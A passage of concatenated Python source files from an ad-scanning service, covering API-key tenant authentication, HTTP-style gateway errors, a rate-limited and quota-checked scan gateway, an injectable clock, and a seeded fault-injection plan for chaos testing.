    else (limits, quotas, admission) consumes the :class:`Tenant` it
    returns.  Registration accepts either a plaintext key (hashed
    immediately, never retained) or a pre-hashed credential.
    """

    def __init__(self, secret_seed: int = 2014) -> None:
        self.secret_seed = secret_seed
        self._by_hash: dict[str, Tenant] = {}
        self._by_id: dict[str, Tenant] = {}
        self._hash_by_id: dict[str, str] = {}

    # -- registration --------------------------------------------------------

    def register(self, tenant: Tenant, api_key: Optional[str] = None,
                 key_hash: Optional[str] = None) -> str:
        """Add ``tenant``; returns the API key that authenticates it.

        With neither ``api_key`` nor ``key_hash`` given, a key is minted
        deterministically from the registry's secret seed.  When only a
        hash is supplied the plaintext is unknown to the registry and the
        returned string is empty — the caller holds the credential.
        """
        if tenant.tenant_id in self._by_id:
            raise ValueError(f"tenant {tenant.tenant_id!r} already registered")
        if api_key is None and key_hash is None:
            api_key = mint_key(self.secret_seed, tenant.tenant_id)
        digest = key_hash if key_hash is not None else hash_key(api_key or "")
        if digest in self._by_hash:
            raise ValueError("API key already in use by another tenant")
        self._by_hash[digest] = tenant
        self._by_id[tenant.tenant_id] = tenant
        self._hash_by_id[tenant.tenant_id] = digest
        return api_key or ""

    def set_enabled(self, tenant_id: str, enabled: bool) -> Tenant:
        """Switch a tenant on or off without touching its credential."""
        tenant = replace(self.get(tenant_id), enabled=enabled)
        digest = self._hash_by_id[tenant_id]
        self._by_hash[digest] = tenant
        self._by_id[tenant_id] = tenant
        return tenant

    # -- lookup --------------------------------------------------------------

    def authenticate(self, api_key: Optional[str]) -> Tenant:
        """Resolve a presented key to its tenant or refuse.

        Raises :class:`AuthenticationError` for a missing or unknown key
        and :class:`TenantDisabledError` for a valid key whose tenant has
        been switched off (the distinction an HTTP edge maps to 401/403).
        """
        if not api_key:
            raise AuthenticationError("missing API key")
        tenant = self._by_hash.get(hash_key(api_key))
        if tenant is None:
            raise AuthenticationError("unknown API key")
        if not tenant.enabled:
            raise TenantDisabledError(
                f"tenant {tenant.tenant_id!r} is disabled")
        return tenant

    def get(self, tenant_id: str) -> Tenant:
        tenant = self._by_id.get(tenant_id)
        if tenant is None:
            raise KeyError(f"unknown tenant {tenant_id!r}")
        return tenant

    def tenants(self) -> list[Tenant]:
        """Every registered tenant, in stable id order."""
        return [self._by_id[tid] for tid in sorted(self._by_id)]

    def __len__(self) -> int:
        return len(self._by_id)

    def __contains__(self, tenant_id: str) -> bool:
        return tenant_id in self._by_id

    # -- persistence ---------------------------------------------------------

    @classmethod
    def from_file(cls, path: PathLike, secret_seed: int = 2014) -> "TenantRegistry":
        """Load a registry from a tenants file (JSON list or JSONL).

        Each entry is a :meth:`Tenant.to_dict` mapping plus exactly one
        credential field: ``"api_key"`` (hashed at load) or
        ``"key_hash"``.  Entries with neither get a key minted from the
        secret seed — :func:`mint_key` re-derives it for callers.
        """
        text = Path(path).read_text(encoding="utf-8").strip()
        if not text:
            return cls(secret_seed)
        if text.startswith("["):
            entries: Iterable[dict] = json.loads(text)
        else:
            entries = [json.loads(line) for line in text.splitlines() if line.strip()]
        registry = cls(secret_seed)
        for entry in entries:
            registry.register(Tenant.from_dict(entry),
                              api_key=entry.get("api_key"),
                              key_hash=entry.get("key_hash"))
        return registry

    def save(self, path: PathLike) -> int:
        """Write the registry as a JSON list (hashes only, never keys)."""
        entries = []
        for tenant in self.tenants():
            entry = tenant.to_dict()
            entry["key_hash"] = self._hash_by_id[tenant.tenant_id]
            entries.append(entry)
        Path(path).write_text(json.dumps(entries, indent=2, sort_keys=True),
                              encoding="utf-8")
        return len(entries)
