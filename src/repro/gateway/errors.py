"""The gateway's refusal vocabulary, mapped onto HTTP status codes.

Every way the gateway can say *no* is a distinct exception carrying the
status code an HTTP front end would return, so the in-process API and
the HTTP-shaped :meth:`~repro.gateway.gateway.ScanGateway.handle` route
table refuse identically.  The hierarchy matters to callers: catching
:class:`GatewayError` covers every policy refusal without swallowing
programming errors.
"""

from __future__ import annotations

from typing import Optional


class GatewayError(RuntimeError):
    """Base class for every gateway policy refusal."""

    #: The HTTP status an edge server would map this refusal to.
    status = 400

    def to_body(self) -> dict:
        """The canonical JSON error body for the HTTP-shaped interface."""
        return {"error": type(self).__name__, "detail": str(self)}


class AuthenticationError(GatewayError):
    """Missing or unknown API key (HTTP 401)."""

    status = 401


class TenantDisabledError(GatewayError):
    """The key is valid but the tenant has been switched off (HTTP 403)."""

    status = 403


class QuotaExceededError(GatewayError):
    """The tenant spent its submission or scan-spend budget (HTTP 403)."""

    status = 403

    def __init__(self, message: str, kind: str = "spend") -> None:
        super().__init__(message)
        #: Which budget ran out: ``"submissions"`` or ``"spend"``.
        self.kind = kind

    def to_body(self) -> dict:
        body = super().to_body()
        body["quota"] = self.kind
        return body


class RateLimitedError(GatewayError):
    """The tenant exceeded its sliding-window request rate (HTTP 429)."""

    status = 429

    def __init__(self, message: str, retry_after: float = 0.0) -> None:
        super().__init__(message)
        #: Seconds until the oldest in-window request expires — the
        #: deterministic answer to "when may I try again?".
        self.retry_after = retry_after

    def to_body(self) -> dict:
        body = super().to_body()
        body["retry_after"] = self.retry_after
        return body


class AdmissionRejectedError(GatewayError):
    """The weighted-fair admission buffer is full (HTTP 503)."""

    status = 503


class GatewayDegradedError(GatewayError):
    """The backing service refused fresh scans — breakers open (HTTP 503)."""

    status = 503


def error_response(error: GatewayError) -> tuple[int, dict]:
    """``(status, body)`` for any gateway refusal (the HTTP shape)."""
    return error.status, error.to_body()


def maybe_retry_after(error: Optional[GatewayError]) -> dict:
    """Headers contributed by a refusal (``Retry-After`` for throttles)."""
    if isinstance(error, RateLimitedError):
        return {"retry-after": f"{error.retry_after:.3f}"}
    return {}
