"""`ScanGateway`: the multi-tenant front door of the scan service.

Every submission walks the same four checkpoints, in order::

    auth (401) → rate limit (429) → quota (403) → fair admission (503)
      → ScanService.submit (tenant-attributed)

The gateway is *HTTP-shaped but in-process*: :meth:`ScanGateway.handle`
routes ``(method, path, headers, body)`` requests exactly as an HTTP
edge would — status codes, ``Retry-After`` headers, JSON error bodies —
while the programmatic API (:meth:`submit_record` /
:meth:`submit_html`) serves the CLI, examples and benchmarks without any
socket.  Both surfaces share one decision path, so what the tests pin is
what a real front end would serve.

Determinism: the gateway reads time only through its injected clock and
contains no randomness, so every admission, throttle and quota decision
is a pure function of ``(config, tenants, call sequence, clock
readings)``.  Metrics — per-tenant counters, verdict mix, admission
latency histograms — roll into the backing service's existing
:class:`~repro.service.metrics.MetricsRegistry` so one snapshot covers
the whole stack.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import Any, Optional

from repro.core.oracle import AdVerdict
from repro.core.persistence import verdict_to_dict
from repro.crawler.corpus import AdRecord
from repro.gateway.admission import AdmissionBuffer
from repro.gateway.auth import Tenant, TenantRegistry
from repro.gateway.clock import Clock
from repro.gateway.errors import (
    AuthenticationError,
    GatewayDegradedError,
    GatewayError,
    QuotaExceededError,
    RateLimitedError,
    TenantDisabledError,
    maybe_retry_after,
)
from repro.gateway.quota import DEFAULT_CACHED_COST, DEFAULT_SCAN_COST, QuotaLedger
from repro.gateway.ratelimit import MemorySlidingWindow, RateLimitBackend
from repro.service.queue import QueueClosedError, QueueFullError
from repro.service.service import (
    ScanService,
    ScanTicket,
    ServiceDegradedError,
    sighting_record,
)

#: The standing identity used when ``require_auth`` is off and a request
#: arrives without a key (a public scanning endpoint's "free tier").
ANONYMOUS_TENANT = "anonymous"


@dataclass
class GatewayConfig:
    """All the gateway's knobs in one place."""

    #: Refuse keyless/unknown requests (401) instead of mapping them to
    #: the anonymous tenant.
    require_auth: bool = True
    #: Bounded weighted-fair buffer between policy checks and the
    #: service's ingest queue.
    admission_capacity: int = 1024
    #: Most items forwarded to the service per pump pass (keeps one
    #: caller from doing unbounded forwarding work inline).
    forward_burst: int = 64
    #: Spend billed per fresh oracle scan / per cache-or-dedup hit.
    scan_cost: float = DEFAULT_SCAN_COST
    cached_cost: float = DEFAULT_CACHED_COST
    #: Secret for deterministic API-key minting (see auth.mint_key).
    secret_seed: int = 2014
    #: Time source for every gateway decision; None = time.monotonic.
    clock: Optional[Clock] = None
    #: Limits applied to the anonymous tenant when require_auth is off.
    anonymous_tenant: Tenant = field(default_factory=lambda: Tenant(
        tenant_id=ANONYMOUS_TENANT, name="unauthenticated callers",
        priority="best_effort", rate_limit=30, rate_window=60.0))


class GatewayTicket:
    """A tenant's claim on one gateway submission.

    Unlike a :class:`~repro.service.service.ScanTicket`, this ticket
    exists *before* the submission reaches the service — it is minted at
    admission-buffer enqueue time and attaches to the inner service
    ticket when the weighted-fair scheduler forwards it.  ``result()``
    therefore drives the gateway's pump: a caller blocked on its verdict
    is also the engine that moves the admission queue.
    """

    def __init__(self, ticket_id: str, tenant_id: str, record: AdRecord,
                 enqueued_at: float, gateway: "ScanGateway") -> None:
        self.ticket_id = ticket_id
        self.tenant_id = tenant_id
        self.record = record
        self.enqueued_at = enqueued_at
        self.forwarded_at: Optional[float] = None
        self._gateway = gateway
        self._inner: Optional[ScanTicket] = None
        self._error: Optional[BaseException] = None
        self._mix_recorded = False

    # -- state ---------------------------------------------------------------

    @property
    def forwarded(self) -> bool:
        return self._inner is not None or self._error is not None

    @property
    def from_cache(self) -> bool:
        return self._inner is not None and self._inner.from_cache

    @property
    def done(self) -> bool:
        if self._error is not None:
            return True
        return self._inner is not None and self._inner.done

    @property
    def admission_latency(self) -> Optional[float]:
        """Seconds between enqueue and forward (gateway-clock units)."""
        if self.forwarded_at is None:
            return None
        return self.forwarded_at - self.enqueued_at

    # -- resolution ----------------------------------------------------------

    def result(self, timeout: Optional[float] = None) -> AdVerdict:
        """Block for the verdict, pumping the admission queue as needed."""
        deadline = None if timeout is None else time.monotonic() + timeout
        while self._inner is None:
            if self._error is not None:
                raise self._error
            if self._gateway.pump() == 0 and self._inner is None:
                if self._error is not None:
                    raise self._error
                if deadline is not None and time.monotonic() >= deadline:
                    raise TimeoutError(
                        f"ticket {self.ticket_id} not admitted after {timeout}s")
                time.sleep(0.001)
        remaining = None
        if deadline is not None:
            remaining = max(0.001, deadline - time.monotonic())
        verdict = self._inner.result(remaining)
        self._gateway._record_verdict_mix(self, verdict)
        return verdict

    def to_body(self) -> dict:
        """The HTTP-shaped status body for this ticket."""
        body = {
            "ticket": self.ticket_id,
            "tenant": self.tenant_id,
            "ad_id": self.record.ad_id,
            "status": ("done" if self.done
                       else "admitted" if self.forwarded else "queued"),
        }
        if self.admission_latency is not None:
            body["admission_latency"] = self.admission_latency
        return body


class GatewayResponse:
    """One HTTP-shaped reply: status, JSON-able body, headers."""

    def __init__(self, status: int, body: dict,
                 headers: Optional[dict] = None) -> None:
        self.status = status
        self.body = body
        self.headers = headers or {}

    @property
    def ok(self) -> bool:
        return 200 <= self.status < 300


class ScanGateway:
    """Auth → rate limit → quota → weighted-fair admission → ScanService."""

    def __init__(self, service: ScanService,
                 registry: Optional[TenantRegistry] = None,
                 config: Optional[GatewayConfig] = None,
                 backend: Optional[RateLimitBackend] = None) -> None:
        self.service = service
        self.config = config or GatewayConfig()
        self.registry = registry or TenantRegistry(self.config.secret_seed)
        self.backend = backend or MemorySlidingWindow()
        self.clock: Clock = self.config.clock or time.monotonic
        self.ledger = QuotaLedger(scan_cost=self.config.scan_cost,
                                  cached_cost=self.config.cached_cost)
        self.admission = AdmissionBuffer(self.config.admission_capacity)
        self.metrics = service.metrics
        self._lock = threading.Lock()
        self._pump_lock = threading.Lock()
        self._ticket_seq = 0
        self._tickets: dict[str, GatewayTicket] = {}
        #: Creatives this gateway has already forwarded — a later
        #: submission of the same content bills the cached cost even
        #: when it coalesces onto an in-flight scan rather than hitting
        #: the verdict cache.
        self._seen_hashes: set[str] = set()
        for name in ("gateway_requests", "gateway_admitted",
                     "gateway_auth_failures", "gateway_throttled",
                     "gateway_quota_rejected", "gateway_admission_rejected",
                     "gateway_degraded_rejections"):
            self.metrics.counter(name)
        self.metrics.gauge("gateway_admission_depth")
        self.metrics.histogram("gateway_admission_latency")

    # -- tenant management ---------------------------------------------------

    def register_tenant(self, tenant: Tenant,
                        api_key: Optional[str] = None) -> str:
        """Add a tenant; returns the API key that authenticates it."""
        return self.registry.register(tenant, api_key=api_key)

    def _authenticate(self, api_key: Optional[str]) -> Tenant:
        # Anonymous fallback applies only to *missing* keys, never wrong
        # ones: a caller presenting a bad key meant to authenticate, and
        # refusing loudly beats silently demoting them to the anonymous
        # tenant's limits.
        if not api_key and not self.config.require_auth:
            return self._anonymous_tenant()
        try:
            return self.registry.authenticate(api_key)
        except (AuthenticationError, TenantDisabledError):
            self.metrics.counter("gateway_auth_failures").inc()
            raise

    def _anonymous_tenant(self) -> Tenant:
        tenant = self.config.anonymous_tenant
        if tenant.tenant_id not in self.registry:
            self.registry.register(tenant)
        return self.registry.get(tenant.tenant_id)

    # -- submission ----------------------------------------------------------

    def submit_record(self, api_key: Optional[str],
                      record: AdRecord) -> GatewayTicket:
        """Run one record through every checkpoint; returns its ticket.

        Raises the checkpoint-specific :class:`GatewayError` subclass on
        refusal (401/429/403/503 in HTTP terms); refusals never consume
        admission capacity, and a rate/quota refusal is charged to the
        refusing tenant's counters so the rollup is exact.
        """
        self.metrics.counter("gateway_requests").inc()
        tenant = self._authenticate(api_key)
        tid = tenant.tenant_id
        now = self.clock()
        if tenant.rate_limit is not None:
            decision = self.backend.check(tid, tenant.rate_limit,
                                          tenant.rate_window, now)
            if not decision.allowed:
                self.metrics.counter("gateway_throttled").inc()
                self.metrics.counter(f"tenant.{tid}.throttled").inc()
                raise RateLimitedError(
                    f"tenant {tid!r} over its rate limit "
                    f"({decision.in_window}/{decision.limit} in "
                    f"{tenant.rate_window:g}s)",
                    retry_after=decision.retry_after)
        try:
            self.ledger.admit(tenant)
        except QuotaExceededError:
            self.metrics.counter("gateway_quota_rejected").inc()
            self.metrics.counter(f"tenant.{tid}.quota_rejected").inc()
            raise
        with self._lock:
            self._ticket_seq += 1
            ticket_id = f"tk-{self._ticket_seq:06d}"
        ticket = GatewayTicket(ticket_id, tid, record, now, self)
        try:
            self.admission.push(tid, tenant.weight, ticket)
        except GatewayError:
            self.ledger.refund_submission(tid)
            self.metrics.counter("gateway_admission_rejected").inc()
            self.metrics.counter(f"tenant.{tid}.admission_rejected").inc()
            raise
        with self._lock:
            self._tickets[ticket_id] = ticket
        self.metrics.counter(f"tenant.{tid}.submitted").inc()
        self.metrics.gauge("gateway_admission_depth").set(self.admission.depth)
        self.pump()
        return ticket

    def submit_html(self, api_key: Optional[str], html: str) -> GatewayTicket:
        """Submit one raw creative (the HTTP body shape)."""
        return self.submit_record(api_key, sighting_record(html))

    # -- forwarding ----------------------------------------------------------

    def pump(self, max_items: Optional[int] = None) -> int:
        """Forward admitted items to the service in weighted-fair order.

        Runs until the admission buffer is empty, the service's ingest
        queue has no headroom, or the burst limit is reached.  Returns
        the number of items forwarded.  Any caller may pump; the pump
        lock serialises forwarding so fair order is preserved under
        concurrent submitters.
        """
        budget = self.config.forward_burst if max_items is None else max_items
        forwarded = 0
        with self._pump_lock:
            while forwarded < budget:
                if self.service.queue.depth >= self.service.queue.capacity:
                    break
                popped = self.admission.pop()
                if popped is None:
                    break
                tid, ticket = popped
                if not self._forward(tid, ticket):
                    break
                forwarded += 1
        if forwarded:
            self.metrics.gauge("gateway_admission_depth").set(
                self.admission.depth)
        return forwarded

    def _forward(self, tid: str, ticket: GatewayTicket) -> bool:
        """Hand one admitted ticket to the service; False = put it back."""
        try:
            inner = self.service.submit(ticket.record, tenant=tid)
        except QueueFullError:
            self.admission.push_front(tid, ticket)
            return False
        except ServiceDegradedError as exc:
            self.metrics.counter("gateway_degraded_rejections").inc()
            self.metrics.counter(f"tenant.{tid}.degraded_rejections").inc()
            ticket._error = GatewayDegradedError(str(exc))
            return True
        except QueueClosedError as exc:
            ticket._error = exc
            return True
        now = self.clock()
        ticket._inner = inner
        ticket.forwarded_at = now
        latency = now - ticket.enqueued_at
        self.metrics.counter("gateway_admitted").inc()
        self.metrics.counter(f"tenant.{tid}.admitted").inc()
        self.metrics.histogram("gateway_admission_latency").observe(latency)
        self.metrics.histogram(f"tenant.{tid}.admission_latency").observe(latency)
        cached = inner.from_cache or ticket.record.content_hash in self._seen_hashes
        self._seen_hashes.add(ticket.record.content_hash)
        self.ledger.charge_scan(tid, cached=cached)
        self.metrics.counter(
            f"tenant.{tid}.{'cached' if cached else 'fresh'}_billed").inc()
        self.metrics.gauge(f"tenant.{tid}.spend").set(
            self.ledger.usage(tid).spend)
        return True

    def drain(self, timeout: Optional[float] = None) -> None:
        """Forward everything admitted, then wait for every verdict."""
        deadline = None if timeout is None else time.monotonic() + timeout
        while True:
            self.pump()
            if self.admission.depth == 0:
                break
            if deadline is not None and time.monotonic() >= deadline:
                raise TimeoutError(
                    f"{self.admission.depth} submissions still awaiting "
                    f"admission after {timeout}s")
            time.sleep(0.001)
        remaining = None
        if deadline is not None:
            remaining = max(0.001, deadline - time.monotonic())
        self.service.drain(timeout=remaining)
        with self._lock:
            tickets = list(self._tickets.values())
        for ticket in tickets:
            if ticket._inner is not None and ticket._inner.done:
                try:
                    self._record_verdict_mix(ticket, ticket._inner.result(0))
                except Exception:
                    pass

    def _record_verdict_mix(self, ticket: GatewayTicket,
                            verdict: AdVerdict) -> None:
        with self._lock:
            if ticket._mix_recorded:
                return
            ticket._mix_recorded = True
        tid = ticket.tenant_id
        self.metrics.counter(f"tenant.{tid}.completed").inc()
        kind = "malicious" if verdict.is_malicious else "benign"
        self.metrics.counter(f"tenant.{tid}.{kind}").inc()

    # -- introspection -------------------------------------------------------

    def ticket(self, ticket_id: str) -> Optional[GatewayTicket]:
        with self._lock:
            return self._tickets.get(ticket_id)

    def health(self) -> dict:
        """The liveness rollup an edge health check would scrape."""
        degraded = self.service.pool.all_breakers_open
        return {
            "status": "degraded" if degraded else "ok",
            "degraded": degraded,
            "queue": {
                "depth": self.service.queue.depth,
                "capacity": self.service.queue.capacity,
                "high_water": self.service.queue.high_water,
            },
            "admission": {
                "depth": self.admission.depth,
                "capacity": self.admission.capacity,
                "high_water": self.admission.high_water,
            },
            "breakers": self.service.pool.breaker_stats(),
            "workers_alive": self.service.pool.alive,
        }

    def tenant_rollup(self, tenant_id: str) -> dict:
        """One tenant's usage + counters + admission latency summary."""
        usage = self.ledger.usage(tenant_id).to_dict()
        prefix = f"tenant.{tenant_id}."
        snapshot = self.metrics.snapshot()
        counters = {name[len(prefix):]: value
                    for name, value in snapshot["counters"].items()
                    if name.startswith(prefix)}
        latency = snapshot["histograms"].get(
            f"{prefix}admission_latency",
            {"count": 0, "p50": 0.0, "p95": 0.0, "p99": 0.0})
        return {
            "tenant_id": tenant_id,
            "usage": usage,
            "counters": counters,
            "admission_latency": latency,
        }

    def stats(self) -> dict:
        """Everything: per-tenant rollups, admission, limiter, totals."""
        snapshot = self.metrics.snapshot()
        totals = {name: value for name, value in snapshot["counters"].items()
                  if name.startswith("gateway_")}
        stats = {
            "totals": totals,
            "tenants": {tenant.tenant_id: self.tenant_rollup(tenant.tenant_id)
                        for tenant in self.registry.tenants()},
            "admission": self.admission.stats(),
            "rate_limiter": self.backend.stats(),
            "admission_latency": snapshot["histograms"].get(
                "gateway_admission_latency", {}),
        }
        if getattr(self.service, "store", None) is not None:
            # The persistent tier rides along so one /v1/stats poll shows
            # operators the durable state behind the cache.
            stats["store"] = self.service.store.stats()
        return stats

    # -- the HTTP shape ------------------------------------------------------

    def handle(self, method: str, path: str,
               headers: Optional[dict] = None,
               body: Optional[dict] = None) -> GatewayResponse:
        """Route one HTTP-shaped request.

        Routes::

            POST /v1/scan            submit {"html": ...[, "wait": true]}
            GET  /v1/verdicts/<id>   poll/fetch one ticket's verdict
            GET  /v1/usage           the calling tenant's own rollup
            GET  /v1/health          liveness (no auth; 503 when degraded)
            GET  /v1/stats           global rollups (no auth)

        Policy refusals surface as their HTTP status with a JSON error
        body; throttles carry a ``retry-after`` header.
        """
        headers = {k.lower(): v for k, v in (headers or {}).items()}
        api_key = headers.get("x-api-key")
        try:
            return self._route(method.upper(), path, api_key, body or {})
        except GatewayError as exc:
            return GatewayResponse(exc.status, exc.to_body(),
                                   maybe_retry_after(exc))

    def _route(self, method: str, path: str, api_key: Optional[str],
               body: dict) -> GatewayResponse:
        if (method, path) == ("GET", "/v1/health"):
            health = self.health()
            return GatewayResponse(503 if health["degraded"] else 200, health)
        if (method, path) == ("GET", "/v1/stats"):
            return GatewayResponse(200, self.stats())
        if (method, path) == ("POST", "/v1/scan"):
            html = body.get("html")
            if not isinstance(html, str) or not html:
                return GatewayResponse(400, {"error": "BadRequest",
                                             "detail": "body.html required"})
            ticket = self.submit_html(api_key, html)
            if body.get("wait"):
                verdict = ticket.result(timeout=body.get("timeout"))
                return GatewayResponse(200, {
                    **ticket.to_body(),
                    "verdict": verdict_to_dict(verdict),
                    "from_cache": ticket.from_cache,
                })
            return GatewayResponse(202, ticket.to_body())
        if method == "GET" and path.startswith("/v1/verdicts/"):
            tenant = self._authenticate(api_key)
            ticket = self.ticket(path[len("/v1/verdicts/"):])
            if ticket is None:
                return GatewayResponse(404, {"error": "NotFound",
                                             "detail": "unknown ticket"})
            if ticket.tenant_id != tenant.tenant_id:
                return GatewayResponse(403, {"error": "Forbidden",
                                             "detail": "not your ticket"})
            self.pump()
            if not ticket.done:
                return GatewayResponse(202, ticket.to_body())
            verdict = ticket.result(timeout=0.001)
            return GatewayResponse(200, {
                **ticket.to_body(),
                "verdict": verdict_to_dict(verdict),
                "from_cache": ticket.from_cache,
            })
        if (method, path) == ("GET", "/v1/usage"):
            tenant = self._authenticate(api_key)
            return GatewayResponse(200, self.tenant_rollup(tenant.tenant_id))
        return GatewayResponse(404, {"error": "NotFound",
                                     "detail": f"no route {method} {path}"})
