"""Injectable clocks: every gateway decision is a function of one clock.

Rate-limit windows, quota timestamps and admission-latency measurements
all read time through a single injected callable, never ``time.time``
directly.  In production that callable is ``time.monotonic``; in tests
and the deterministic CI matrices it is a :class:`ManualClock`, which
makes every admission/throttle/quota decision a pure function of
``(config, call sequence, clock readings)`` — replayable bit for bit
under any ``PYTHONHASHSEED`` or chaos profile.
"""

from __future__ import annotations

import time
from typing import Callable

#: The gateway's clock contract: a zero-argument monotonic float source.
Clock = Callable[[], float]


def wall_clock() -> Clock:
    """The production clock (monotonic, immune to wall-time jumps)."""
    return time.monotonic


class ManualClock:
    """A clock that only moves when told to — determinism on demand.

    >>> clock = ManualClock()
    >>> clock()
    0.0
    >>> clock.advance(1.5)
    1.5
    """

    def __init__(self, start: float = 0.0) -> None:
        self._now = float(start)

    def __call__(self) -> float:
        return self._now

    def advance(self, seconds: float) -> float:
        if seconds < 0:
            raise ValueError("clocks only move forward")
        self._now += seconds
        return self._now

    def set(self, now: float) -> float:
        if now < self._now:
            raise ValueError("clocks only move forward")
        self._now = float(now)
        return self._now
