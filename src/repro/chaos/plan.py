"""Seeded, deterministic fault planning.

The paper's three-month crawl ran against a web that kept breaking
underneath it: publishers died, ad servers flapped, campaigns were taken
down mid-study.  Reproducing that hostility on demand — and *exactly* the
same way every run — is what :class:`FaultPlan` does.

A plan never flips a coin at call time.  Every decision is a pure
function of ``(plan seed, scope, url, repeat, attempt)``:

* ``scope`` identifies the unit of work being attempted (the crawler uses
  ``"day:refresh:page-url"``, the DNS wrapper uses ``"dns"``), so the
  fault pattern for a visit does not depend on which worker runs it or
  what ran before it;
* ``repeat`` numbers same-URL fetches within one attempt (a page that
  loads the same tracker twice gets two independent draws);
* ``attempt`` is the retry counter.  A drawn fault carries a *stickiness*
  (how many consecutive attempts it keeps firing for); once ``attempt``
  reaches that stickiness the fault clears.  With ``max_sticky`` no larger
  than the retry budget every injected fault is transient, which is what
  lets a chaos crawl converge to the fault-free corpus fingerprint.

Because the decision is hash-addressed rather than drawn from a stream,
the same seed produces bit-identical fault sequences at any worker count,
in any execution order, and across resumed runs.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from typing import Optional, Sequence

#: Everything the transport injection layer knows how to break.
FAULT_KINDS = (
    "connection",   # transport-level connection failure
    "timeout",      # request never completes
    "nxdomain",     # name resolution fails (flapping NXDOMAIN)
    "http_503",     # transient upstream 5xx
    "truncate",     # response body cut short mid-transfer
    "garble",       # response body corrupted in flight
    "slow",         # response arrives, but late (benign to content)
)

#: Everything the filesystem injection layer knows how to break
#: (consumed by :class:`repro.chaos.fs.ChaosFileSystem`; the transport
#: wrappers ignore these kinds, and vice versa).
FS_FAULT_KINDS = (
    "torn_write",     # only a prefix of the payload reaches the file
    "partial_fsync",  # fsync returns but half the tail is not durable
    "enospc",         # the disk is full; the write is refused
    "corrupt_read",   # bytes read back differ from bytes written
)

#: Kinds that delay but do not corrupt the observed content.
BENIGN_KINDS = frozenset({"slow"})

#: Every kind any injection layer understands (plan validation set).
ALL_FAULT_KINDS = FAULT_KINDS + FS_FAULT_KINDS


@dataclass(frozen=True)
class Fault:
    """One planned fault: what breaks and for how many attempts."""

    kind: str
    sticky: int = 1        # fires while attempt < sticky
    delay: float = 0.0     # simulated extra latency (``slow`` faults)


@dataclass(frozen=True)
class FaultRule:
    """A schedule-targeted fault: break requests matching a substring.

    Rules are checked before the rate draw, so tests (and reproductions of
    a specific outage) can pin exactly which requests fail and for how
    many attempts, independent of the plan's random rate.
    """

    match: str             # substring of the request URL / DNS name
    kind: str
    attempts: int = 1      # fault the first N attempts, then clear


class FaultPlan:
    """Deterministic fault schedule for one chaos run.

    Parameters
    ----------
    seed:
        Integer seed; the entire fault sequence is a pure function of it.
    rate:
        Probability in ``[0, 1]`` that any given request draws a fault.
    kinds:
        Fault kinds the rate draw chooses between.
    max_sticky:
        Upper bound on a drawn fault's stickiness (attempts it survives).
        Keep ``max_sticky <= retry budget`` for transient-only chaos.
    rules:
        Schedule-targeted :class:`FaultRule` entries, checked first.
    slow_delay:
        Simulated latency attached to ``slow`` faults.
    """

    def __init__(
        self,
        seed: int,
        rate: float = 0.0,
        kinds: Sequence[str] = FAULT_KINDS,
        max_sticky: int = 1,
        rules: Sequence[FaultRule] = (),
        slow_delay: float = 0.25,
    ) -> None:
        if not 0.0 <= rate <= 1.0:
            raise ValueError("rate must be in [0, 1]")
        if max_sticky < 1:
            raise ValueError("max_sticky must be at least 1")
        unknown = [k for k in kinds if k not in ALL_FAULT_KINDS]
        if unknown:
            raise ValueError(f"unknown fault kinds: {unknown}")
        for rule in rules:
            if rule.kind not in ALL_FAULT_KINDS:
                raise ValueError(f"unknown fault kind in rule: {rule.kind!r}")
            if rule.attempts < 1:
                raise ValueError("rule attempts must be at least 1")
        self.seed = seed
        self.rate = rate
        self.kinds = tuple(kinds)
        self.max_sticky = max_sticky
        self.rules = tuple(rules)
        self.slow_delay = slow_delay

    def decide(self, scope: str, url: str, repeat: int,
               attempt: int) -> Optional[Fault]:
        """The fault (if any) for this request, or ``None``.

        Pure in ``(seed, scope, url, repeat, attempt)`` — no internal
        state, so the same arguments always return the same answer.
        """
        for rule in self.rules:
            if rule.match in url:
                if attempt < rule.attempts:
                    return Fault(rule.kind, sticky=rule.attempts,
                                 delay=self.slow_delay)
                return None
        if self.rate <= 0.0 or not self.kinds:
            return None
        digest = hashlib.sha256(
            f"{self.seed}|{scope}|{url}|{repeat}".encode("utf-8")).digest()
        draw = int.from_bytes(digest[:8], "big") / 2**64
        if draw >= self.rate:
            return None
        kind = self.kinds[digest[8] % len(self.kinds)]
        sticky = 1 + digest[9] % self.max_sticky
        if attempt >= sticky:
            return None  # transient fault already cleared
        return Fault(kind, sticky=sticky, delay=self.slow_delay)

    def fingerprint(self, scope: str, urls: Sequence[str]) -> str:
        """Stable hash of the fault sequence this plan assigns to ``urls``.

        Two plans with the same seed and config fingerprint identically —
        the replayability check chaos tests assert on.
        """
        parts = []
        for repeat, url in enumerate(urls):
            fault = self.decide(scope, url, repeat, attempt=0)
            parts.append(f"{url}:{fault.kind if fault else '-'}")
        joined = "\n".join(parts)
        return hashlib.sha256(joined.encode("utf-8")).hexdigest()

    # -- profiles ------------------------------------------------------------

    @classmethod
    def profile(cls, name: str, seed: int) -> "FaultPlan":
        """A named chaos profile (what ``--chaos-profile`` selects)."""
        try:
            factory = PROFILES[name]
        except KeyError:
            raise ValueError(
                f"unknown chaos profile: {name!r} "
                f"(expected one of {sorted(PROFILES)})") from None
        return factory(seed)


#: Named profiles: name -> seed -> plan.  ``max_sticky`` stays within the
#: default retry budget so every profile is transient-recoverable.
PROFILES = {
    "none": lambda seed: FaultPlan(seed, rate=0.0),
    "transient": lambda seed: FaultPlan(
        seed, rate=0.08,
        kinds=("connection", "timeout", "nxdomain", "http_503",
               "truncate", "garble"),
        max_sticky=1),
    "flaky-dns": lambda seed: FaultPlan(
        seed, rate=0.15, kinds=("nxdomain",), max_sticky=1),
    "slow": lambda seed: FaultPlan(
        seed, rate=0.25, kinds=("slow",), max_sticky=1),
    "aggressive": lambda seed: FaultPlan(
        seed, rate=0.2, kinds=FAULT_KINDS, max_sticky=2),
    # Filesystem chaos for the verdict store's write/read path.  The
    # transport wrappers draw nothing from it (they ignore fs kinds), so
    # it can front a crawl's store without perturbing the crawl itself.
    "disk": lambda seed: FaultPlan(
        seed, rate=0.08, kinds=FS_FAULT_KINDS, max_sticky=1),
}
