"""Seeded filesystem fault injection for the verdict store's disk path.

The transport chaos layer proved the crawl recovers from a hostile
network; the verdict store needs the disk equivalent.  Real disks tear
writes at power loss, lie about fsync, fill up, and rot at rest.  This
module makes each of those a *deterministic, replayable* test input:

* :class:`LocalFileSystem` is the thin real-I/O seam the store writes
  through (append, fsync, read-at-offset, atomic replace);
* :class:`ChaosFileSystem` wraps it and consults a
  :class:`~repro.chaos.plan.FaultPlan` on every operation, drawing from
